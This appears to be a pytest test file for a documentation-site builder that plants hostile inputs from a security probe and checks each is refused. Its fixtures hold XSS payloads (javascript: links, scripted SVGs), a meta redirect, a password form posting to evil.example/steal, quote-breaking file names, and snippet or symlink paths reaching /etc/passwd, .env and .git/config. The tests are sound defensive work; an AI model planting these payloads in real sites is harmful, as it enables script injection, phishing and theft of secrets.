"""Hostile input that reached built pages (probe 2026-12, INJECT cases): none may now.

One small site holds the probe's reproductions (one build keeps the suite fast); each
class of the probe has its test, with the whole message it gets and a scan of what was
written. The site is built with the working directory at its root, as the probe did,
so that snippet includes (`--8<--`) read its files.
"""

from __future__ import annotations

import os
import re
import shutil
from pathlib import Path

import pytest
from selectolax.lexbor import LexborHTMLParser

from sitebuild import BuildResult, build_site, write_small_site

pytestmark = pytest.mark.timeout(120)


def probe(body: str) -> str:
    """The probe's chapter (docs/chapters/probe.md) with one planted body."""
    return (
        f"---\ntitle: Probe\ndescription: Probe chapter.\n---\n\n# Probe\n\n## Section one\n\n"
        f"Transference.\n\n{body}\n\n\n<!-- key-concepts -->\n"
    )


EVIL_BIB = """@book{evil2020,
  author = {Evil, Eve},
  year = {2020},
  title = {Read \\href{javascript:alert(1)}{click here}},
  publisher = {P},
}
"""
EVIL_SVG = (
    '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10" onload="alert(1)"><script>alert(2)</script></svg>\n'
)
A07_NAME = 'x" onmouseover="alert(1)<!--.md'
A08_NAME = 'chapters/y" onmouseover="alert(1)<!--.md'
M16_NAME = 'concepts/x"onmouseover=alert(1).md'
FILES = {
    "index.md": "# Home\n",
    "concepts/transference.md": "---\nterm: Transference\nsummary: A short definition.\n---\n",
    "references.bib": EVIL_BIB,
    # B07: a bibliography field with a javascript: link, inserted after the early check
    "chapters/b07.md": probe("Transference was studied [@evil2020]. Later work on projection agrees."),
    # H01: an SVG animation that turns a link into javascript:
    "chapters/h01.md": probe(
        '<svg width="100" height="30"><a><animate attributeName="href" values="javascript:alert(1)"/>'
        '<text x="5" y="20">Click</text></a></svg>'
    ),
    "chapters/h03.md": probe('<meta http-equiv="refresh" content="0;url=https://evil.example/">'),
    "chapters/h05.md": probe(
        "<style>body{display:none}</style>\n\n"
        '<link rel="stylesheet" href="https://evil.example/x.css">\n\n'
        '<p style="position:fixed;top:0;left:0;width:100%;height:100%;background:red">x</p>'
    ),
    "chapters/h06.md": probe(
        '<form action="https://evil.example/steal"><input type="password" name="p"><button>Log in</button></form>'
    ),
    "chapters/h11.md": probe('--8<-- "/etc/hostname"'),
    "chapters/h12.md": probe('--8<-- "docs/assets/evil-snippet.html"'),
    "assets/evil-snippet.html": "<script>alert(1)</script>\n",
    "chapters/h14.md": probe(
        '<a href="https://example.org" ping="https://evil.example/p">x</a> <img src="https://evil.example/t.gif" alt="t">'
    ),
    "evil.html": "<!doctype html><script>alert(document.domain)</script>\n",  # A01
    "assets/figures/evil.svg": EVIL_SVG,  # A02, X01
    "chapters/a02.md": probe("![An evil figure](../assets/figures/evil.svg)"),
    A07_NAME: "# Hi\n\nA page.\n",
    A08_NAME: probe(""),
    M16_NAME: "---\nterm: Quote file\nsummary: A short definition.\n---\n",
    # Held back from the probe's copy (turn 3): other members of the same classes.
    "assets/feed.rss": '<rss xmlns:x="http://www.w3.org/1999/xhtml"><x:script>alert(1)</x:script></rss>\n',
    "assets/feed.atom": '<feed xmlns:x="http://www.w3.org/1999/xhtml"><x:script>alert(1)</x:script></feed>\n',
    "assets/math.mml": '<math xmlns:x="http://www.w3.org/1999/xhtml"><x:script>alert(1)</x:script></math>\n',
    "assets/noext": "<script>alert(1)</script>\n",
    "chapters/bidi\u202egpj.md": probe(""),
    "chapters/zero\u200bwidth.md": probe(""),
    "assets/figures/base.svg": '<svg xmlns="http://www.w3.org/2000/svg" xml:base="javascript:alert(1)//"><a href="x"><text>x</text></a></svg>\n',
    "chapters/autolink.md": probe("<vbscript:msgbox(1)>"),
    "chapters/snippets.md": probe('--8<-- ".git/config"\n\n--8<-- "docs/../.env"\n\n--8<-- "docs/assets/passwd.txt"'),
}
LINKS = {"assets/passwd.txt": "/etc/passwd", "assets/environ.txt": "/proc/self/environ", "assets/etc": "/etc"}
NAV = [
    "index.md",
    *sorted(name for name in FILES if name.startswith("chapters/") and name.isascii() and '"' not in name),
]


@pytest.fixture(scope="module")
def built(tmp_path_factory: pytest.TempPathFactory) -> BuildResult:
    root = tmp_path_factory.mktemp("hostile-output")
    before = Path.cwd()
    os.chdir(root)  # snippet paths are read from the working directory (pymdownx.snippets' base_path)
    try:
        docs = write_small_site(root, FILES)
        for name, target in LINKS.items():  # a link (symlink) a pull request can carry
            (docs / name).symlink_to(target)
        (root / ".git").mkdir()
        (root / ".git/config").write_text("[http]\n\textraheader = AUTHORIZATION: basic SECRET-TOKEN\n")
        (root / ".env").write_text("TOKEN=SECRET-TOKEN\n")
        return build_site(root / "site", docs_dir=str(docs), nav=NAV)
    finally:
        os.chdir(before)


def live_markup(site: Path) -> list[str]:
    """What in the written site could run, load from elsewhere or redirect: the probe's scan."""
    found = []
    for page in sorted(site.rglob("*.html")):
        tree = LexborHTMLParser(page.read_text(encoding="utf-8"))
        where = page.relative_to(site).as_posix()
        for node in tree.root.traverse():
            attributes = node.attributes
            for name, value in attributes.items():
                if name.lower().startswith("on") or name.lower() == "ping":
                    found.append(f"{where}: <{node.tag} {name}>")
                if re.sub(r"[\x00-\x20]+", "", value or "").lower().startswith(("javascript:", "data:", "vbscript:")):
                    found.append(f"{where}: <{node.tag} {name}={value!r}>")
                if "evil.example" in (value or ""):
                    found.append(f"{where}: <{node.tag} {name}={value!r}>")
            if node.tag in ("animate", "set", "iframe", "object", "embed", "base"):
                found.append(f"{where}: <{node.tag}>")
            if node.tag == "form" and "action" in attributes:  # the theme's search form has none
                found.append(f"{where}: <form action>")
            if node.tag == "meta" and "http-equiv" in attributes:
                found.append(f"{where}: <meta http-equiv>")
            if node.tag == "style" and "display:none" in node.text():
                found.append(f"{where}: <style>{node.text()}")
            if node.tag == "script" and "alert" in node.text():
                found.append(f"{where}: <script>{node.text()}")
    for leak in sorted(site.rglob("*")):
        if leak.is_file() and re.search(rb"SECRET-TOKEN|root:x:0:0|PATH=", leak.read_bytes()):
            found.append(f"{leak.relative_to(site).as_posix()}: a file of the build machine")
    for svg in sorted(site.rglob("*.svg")):
        text = svg.read_text(encoding="utf-8")
        if re.search(r"<script|\bon\w+\s*=|javascript:", text, re.IGNORECASE):
            found.append(f"{svg.relative_to(site).as_posix()}: {text[:80]}")
    return found


def test_the_build_fails_without_a_traceback_and_writes_no_live_markup(built: BuildResult) -> None:
    # 17 refusals of the published cases, 14 of the held-back ones, and the .bib's \\href, which citations/fields.py turns into its text (a warning).
    assert built.failed == "Aborted with 31 errors, 1 warnings in strict mode!", built.text()
    assert not any("Traceback" in m for m in built.messages)
    assert live_markup(built.site) == []


def test_a_bibliography_field_with_a_javascript_link_is_caught_in_the_finished_pages(built: BuildResult) -> None:
    """B07 (and X03, X05: the editions are made from these pages): the link is stopped where
    it is written, in the .bib file (citations/fields.py keeps only its text); no finished
    page carries it. The final check's own answer to a link a late part brings in is shown
    in tests/test_safety_rules.py, on a part inserted after the page was marked."""
    assert (
        built.problems.count(
            "WARNING: docs/references.bib:4: the field 'title' of entry 'evil2020' uses \\href, which would make a link, "
            "image, note or markup in the reference; write plain text (a link belongs in the url or doi field). "
            "Only its text is kept."
        )
        == 1
    ), built.text()
    for page in ("chapters/b07.html", "bibliography.html", "print.html"):
        html = (built.site / page).read_text(encoding="utf-8")
        assert "javascript:" not in html


@pytest.mark.parametrize(
    ("case", "message"),
    [
        pytest.param(
            "H01",
            "ERROR: docs/chapters/h01.md:12: the SVG animation <animate> changes the attribute 'href', which can turn "
            "a link into code; delete the animation (a figure of the book does not move).",
            id="H01 svg animate href",
        ),
        pytest.param(
            "H03",
            "ERROR: docs/chapters/h03.md:12: the raw HTML element <meta> is not allowed in the book, because it can "
            'send every reader to another site (http-equiv="refresh"); delete it (a page\'s title and description '
            "go in its front matter).",
            id="H03 meta refresh",
        ),
        pytest.param(
            "H05",
            "ERROR: docs/chapters/h05.md:12: the raw HTML element <style> is not allowed in the book, because it can "
            "restyle or hide the whole site; delete it (the book's styles live in docs/assets/stylesheets/).",
            id="H05 style element",
        ),
        pytest.param(
            "H05",
            "ERROR: docs/chapters/h05.md:14: the raw HTML element <link> is not allowed in the book, because it loads "
            "a stylesheet or another file into the whole page; delete it (write a link to read as [text](https://...)).",
            id="H05 link element",
        ),
        pytest.param(
            "H05",
            "ERROR: docs/chapters/h05.md:16: the attribute 'style' on <p> can cover or restyle the whole page, which "
            "the book does not allow; delete it (the book's styles live in docs/assets/stylesheets/).",
            id="H05 style attribute",
        ),
        pytest.param(
            "H06",
            "ERROR: docs/chapters/h06.md:12: the raw HTML element <form> is not allowed in the book, because it can "
            "send what a reader types to another site; delete it.",
            id="H06 form",
        ),
        pytest.param(
            "H14",
            "ERROR: docs/chapters/h14.md:12: the attribute 'ping' on <a> reports every click to another address, "
            "which the book does not allow; delete it.",
            id="H14 ping",
        ),
        pytest.param(
            "H14",
            "ERROR: docs/chapters/h14.md:12: the file 'https://evil.example/t.gif' on <img> would be loaded from "
            "another site, which tells that site who reads the book (and is missing from the offline copy); save "
            "the file under docs/assets/ and give its relative path.",
            id="H14 image from another site",
        ),
    ],
)
def test_raw_html_that_got_past_the_check_is_reported_at_its_line(built: BuildResult, case: str, message: str) -> None:
    assert message in built.problems, built.text()
    page = (built.site / f"chapters/{case.lower()}.html").read_text(encoding="utf-8")
    assert "This page is not shown" in page


def test_a_snippet_that_cannot_be_included_is_a_message_not_a_traceback(built: BuildResult) -> None:
    """H11."""
    assert (
        "ERROR: docs/chapters/h11.md:12: the snippet '/etc/hostname' cannot be included: it is missing or lies "
        "outside the project folder; give the path of a file in the project from its top folder "
        "(e.g. docs/assets/snippets/note.md), or delete the line."
    ) in built.problems, built.text()
    assert (built.site / "chapters/h11.html").is_file()


def test_static_html_files_are_left_out_and_a_snippet_of_one_is_reported_at_its_line(built: BuildResult) -> None:
    """A01, H12: MkDocs copies any file of docs/ as it is."""
    for name in ("evil.html", "assets/evil-snippet.html"):
        assert (
            f"ERROR: docs/{name}: a .html file is published as it is, and a browser runs any script in it, which "
            f"the book's checks never read; delete it (write a page in Markdown, draw a figure as a .svg file). "
            f"The file was left out of the build."
        ) in built.problems, built.text()
        assert not (built.site / name).exists()
    assert (
        "ERROR: docs/chapters/h12.md:12: the raw HTML element <script> is not allowed in the book, because it can "
        "run code or load another site (in the file this line includes); delete it (draw a figure as an SVG file "
        "without scripts)."
    ) in built.problems


def test_an_svg_figure_with_code_is_reported_and_published_without_it(built: BuildResult) -> None:
    """A02, and X01: the EPUB copies the site's figure."""
    for message in (
        "ERROR: docs/assets/figures/evil.svg:1: the attribute 'onload' on <svg> runs code, which the book does not "
        "allow; delete it. The published copy leaves it out.",
        "ERROR: docs/assets/figures/evil.svg:1: the SVG element <script> runs code when the figure is opened; "
        "delete it (export the figure again without it). The published copy leaves it out.",
    ):
        assert message in built.problems, built.text()
    published = (built.site / "assets/figures/evil.svg").read_text(encoding="utf-8")
    assert published == '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"></svg>\n'


@pytest.mark.parametrize("name", [A07_NAME, A08_NAME, M16_NAME], ids=["A07 page", "A08 chapter", "M16 concept"])
def test_a_file_name_with_a_quote_is_refused_with_the_fix(built: BuildResult, name: str) -> None:
    """A07, A08, M16: Material's edit button printed the path into href="..." unescaped."""
    assert (
        f"ERROR: docs/{name}: the file or folder name contains '\"', which would break out of the HTML attributes "
        f"where the theme prints a page's address (its edit button); rename it with lowercase letters, digits and "
        f"hyphens only. The file was left out of the build."
    ) in built.problems, built.text()
    assert not list(built.site.rglob('*"*'))


def test_the_editions_refuse_a_site_that_carries_code_and_write_nothing(built: BuildResult, tmp_path: Path) -> None:
    """X01-X05: the PDF and EPUB tools may be pointed at an old or failed build's folder."""
    from conceptbook.editions import epub, pdf

    site = tmp_path / "site"
    shutil.copytree(built.site, site)
    book = site / "print.html"  # what the tools read: planted into the whole book as the build wrote it
    html = book.read_text(encoding="utf-8")
    at = html.index(">", html.index('<section class="print-section')) + 1
    book.write_text(
        html[:at]
        + '<meta http-equiv="refresh" content="0;url=https://evil.example/"><p><a href="javascript:alert(1)">x</a>'
        + '<img src="assets/figures/bad.svg" alt="x"></p>'
        + html[at:],
        encoding="utf-8",
    )
    (site / "assets/figures/bad.svg").write_text(EVIL_SVG, encoding="utf-8")
    for make, out in ((epub.build_epub, tmp_path / "x.epub"), (pdf.build_pdf, tmp_path / "x.pdf")):
        with pytest.raises(SystemExit) as stopped:
            make(site, out)
        assert not out.exists()
        message = str(stopped.value)
        assert message.startswith(
            f"error: the site in {site} holds what no edition may hold (code, or an image it lacks):\n"
        )
        assert (
            f"  {site / 'print.html'}: the raw HTML element <meta> is not allowed in the book, because it can send "
            f'every reader to another site (http-equiv="refresh"); delete it (a page\'s title and description go '
            f"in its front matter)\n"
        ) in message
        assert (
            f"  {site / 'print.html'}: the link 'javascript:alert(1)' uses the scheme 'javascript:', which the book "
            f"does not allow; link only to https://, mailto: or a relative path\n"
        ) in message
        assert (
            f"  {site / 'assets/figures/bad.svg'}:1: the SVG element <script> runs code when the figure is opened; "
            f"delete it (export the figure again without it)\n"
        ) in message
        assert message.endswith(
            "Rebuild the site with 'make build': its messages name the source file and line of each."
        )


def test_the_final_check_reads_a_page_again_only_when_it_changed(monkeypatch: pytest.MonkeyPatch) -> None:
    from conceptbook.safety import output

    read: list[str] = []
    real = output.content_faults

    def counting(content: str) -> list:
        read.append(content)
        return real(content)

    monkeypatch.setattr(output, "content_faults", counting)
    monkeypatch.setattr(output, "_CLEAN", type(output._CLEAN)(2048))  # found clean by an earlier run of this test
    check = output.FinalCheck(lambda: [])
    page = "<html><body>" + check.mark("<p>A clean page, unique to this test.</p>") + "</body></html>"
    assert (
        check.check(page, "docs/a.md", lambda: None)
        == "<html><body><p>A clean page, unique to this test.</p></body></html>"
    )
    later = output.FinalCheck(lambda: [])  # the next build of mkdocs serve: another token
    again = "<html><body>" + later.mark("<p>A clean page, unique to this test.</p>") + "</body></html>"
    assert (
        later.check(again, "docs/a.md", lambda: None)
        == "<html><body><p>A clean page, unique to this test.</p></body></html>"
    )
    assert len(read) == 1
    bad = "<html><body>" + later.mark('<a href="javascript:alert(1)">x</a>') + "</body></html>"
    for _ in range(2):  # a page with a fault is read, and reported, every time
        assert "This page is not shown" in later.check(bad, "docs/a.md", lambda: None)
    assert len(read) == 3


HELD_BACK = [
    pytest.param(
        "ERROR: docs/assets/passwd.txt: this file is a link (symlink) to /etc/passwd, outside docs/, and MkDocs would "
        "publish what it points to as it is (a link can reach any file of the machine that builds the book); copy "
        "the file into docs/ instead of linking it. It was left out of the build.",
        id="symlink to a file",
    ),
    pytest.param(
        "ERROR: docs/assets/etc: this folder is a link (symlink) to /etc, outside docs/, and MkDocs would publish "
        "what it points to as it is (a link can reach any file of the machine that builds the book); copy the "
        "folder into docs/ instead of linking it. It was left out of the build.",
        id="symlink to a folder, once",
    ),
    *(
        pytest.param(
            f"ERROR: docs/assets/{name}: a .{name.split('.')[1]} file is not a type the book publishes, and a browser "
            f"may open it as a document that runs scripts, which the book's checks never read; delete it, or save it "
            f"as one of .avif, .bib, .css, .csv, .epub, .gif, .ico, .jpeg, .jpg, .js, .json, .m4a, .map, .markdown, "
            f".md, .mp3, .mp4, .oga, .ogg, .ogv, .otf, .pdf, .png, .svg, .tsv, .ttf, .txt, .vtt, .wav, .webm, .webp, "
            f".woff, .woff2, .yaml, .yml, .zip. The file was left out of the build.",
            id=f"static .{name.split('.')[1]}",
        )
        for name in ("feed.rss", "feed.atom", "math.mml")
    ),
    pytest.param(
        "ERROR: docs/chapters/bidi\u202egpj.md: the file or folder name contains the invisible character U+202E "
        "RIGHT-TO-LEFT OVERRIDE, which makes the name read as another one in the navigation and the address bar; "
        "rename it with lowercase letters, digits and hyphens only. The file was left out of the build.",
        id="bidi override in a file name",
    ),
    pytest.param(
        "ERROR: docs/chapters/zero\u200bwidth.md: the file or folder name contains the invisible character U+200B "
        "ZERO WIDTH SPACE, which makes the name read as another one in the navigation and the address bar; rename "
        "it with lowercase letters, digits and hyphens only. The file was left out of the build.",
        id="zero-width space in a file name",
    ),
    pytest.param(
        "ERROR: docs/assets/figures/base.svg:1: the SVG sets xml:base on <svg>, which changes where every link of "
        "the figure points; delete it. The published copy leaves it out.",
        id="svg xml:base",
    ),
    pytest.param(
        "ERROR: docs/chapters/autolink.md:12: the raw HTML element <vbscript:msgbox(1)> is not one the book allows; "
        "delete it, or write the text in Markdown.",
        id="autolink element has its line",
    ),
    pytest.param(
        "ERROR: docs/chapters/snippets.md:12: the snippet '.git/config' cannot be included: only files under docs/ "
        "whose names do not start with '.' can be, and this one is hidden; copy the text into docs/assets/snippets/ "
        "and include it from there (e.g. docs/assets/snippets/note.md), or delete the line.",
        id="snippet of .git/config",
    ),
    pytest.param(
        "ERROR: docs/chapters/snippets.md:14: the snippet 'docs/../.env' cannot be included: only files under docs/ "
        "whose names do not start with '.' can be, and this one is hidden; copy the text into docs/assets/snippets/ "
        "and include it from there (e.g. docs/assets/snippets/note.md), or delete the line.",
        id="snippet of ../.env",
    ),
    pytest.param(
        "ERROR: docs/chapters/snippets.md:16: the snippet 'docs/assets/passwd.txt' cannot be included: only files "
        "under docs/ whose names do not start with '.' can be, and this one lies at /etc/passwd; copy the text into "
        "docs/assets/snippets/ and include it from there (e.g. docs/assets/snippets/note.md), or delete the line.",
        id="snippet through a symlink",
    ),
]


@pytest.mark.parametrize("message", HELD_BACK)
def test_held_back_cases_of_each_class_are_refused_with_the_fix(built: BuildResult, message: str) -> None:
    """Cases the probe held back: each class is closed, not only its published case."""
    assert message in built.problems, built.text()


def test_nothing_of_a_refused_static_file_or_link_is_published(built: BuildResult) -> None:
    for name in ("assets/feed.rss", "assets/feed.atom", "assets/math.mml", "assets/noext", "assets/etc"):
        assert not (built.site / name).exists(), name
    assert [p.name for p in (built.site / "assets").iterdir() if p.name.endswith(".txt")] == []
    assert "xml:base" not in (built.site / "assets/figures/base.svg").read_text(encoding="utf-8")


def test_a_bibliography_that_links_outside_docs_is_not_read(tmp_path: Path) -> None:
    """docs/references.bib as a link (symlink) to a file elsewhere: left out like any such
    link, and the citations do not read it from disk either."""
    outside = tmp_path / "elsewhere.bib"
    outside.write_text("@book{leak, author={Secret, Sam}, title={SECRET-TITLE}, year={2001}, publisher={P}}\n")
    docs = write_small_site(
        tmp_path / "book",
        {
            "index.md": "# Home\n",
            "chapters/one.md": "---\ntitle: One\ndescription: A chapter.\n---\n\n# One\n\nAs shown [@leak].\n",
        },
    )
    (docs / "references.bib").symlink_to(outside)
    result = build_site(tmp_path / "site", docs_dir=str(docs), nav=["index.md", "chapters/one.md"])
    assert any("docs/references.bib: this file is a link (symlink)" in m for m in result.messages), result.messages
    assert any("the book has no docs/references.bib" in m for m in result.messages), result.messages
    published = "".join(p.read_text(errors="replace") for p in (tmp_path / "site").rglob("*.html"))
    assert "SECRET-TITLE" not in published and "Secret" not in published
